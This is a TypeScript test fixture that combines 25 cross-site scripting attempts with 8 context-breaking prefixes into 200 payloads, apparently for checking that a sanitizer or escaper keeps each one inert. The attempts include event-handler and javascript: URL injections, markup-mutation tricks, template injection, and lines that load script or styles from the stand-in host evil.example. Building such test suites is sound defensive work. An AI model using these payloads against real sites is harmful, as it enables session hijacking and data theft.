/** What runs a script where it is taken for markup, a style, an address or a template. */
const attempts = [
  '<script>__pwned=1</script>',
  '<ScRiPt >__pwned=1</sCrIpT >',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=__pwned=1>',
  '<img/src/onerror=__pwned=1>',
  '<svg onload=__pwned=1>',
  '<svg><script>__pwned=1</script></svg>',
  '<svg><animate onbegin=__pwned=1 attributeName=x dur=1s>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=__pwned=1>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<iframe src=javascript:parent.__pwned=1></iframe>',
  '<object data="javascript:__pwned=1"></object>',
  '<embed src="javascript:__pwned=1">',
  '<a href="javascript:__pwned=1" autofocus onfocus=__pwned=1>x</a>',
  '<input autofocus onfocus=__pwned=1>',
  '<details open ontoggle=__pwned=1>x</details>',
  '<video><source onerror=__pwned=1></video>',
  '<body onpageshow=__pwned=1>',
  '<style>@import "//evil.example/x.css";*{animation:x}</style>',
  '<div style="background:url(//evil.example/x)" onclick=__pwned=1>x</div>',
  '<meta http-equiv=refresh content="0;url=javascript:__pwned=1">',
  '<base href=//evil.example/>',
  '<form action=javascript:__pwned=1><button autofocus>x</button></form>',
  'javascript:__pwned=1',
  '{{constructor.constructor("__pwned=1")()}}',
] as const;

/** What ends the place that a value is put into first: an attribute, a comment, a script, a text. */
const ends = ['', '">', "'>", '-->', '</title></textarea>', '</script>', '${__pwned=1}', '\\"});'];

/** Two hundred texts, each of which is to stay one. */
export const payloads: readonly string[] = ends.flatMap((end) =>
  attempts.map((attempt) => end + attempt),
);
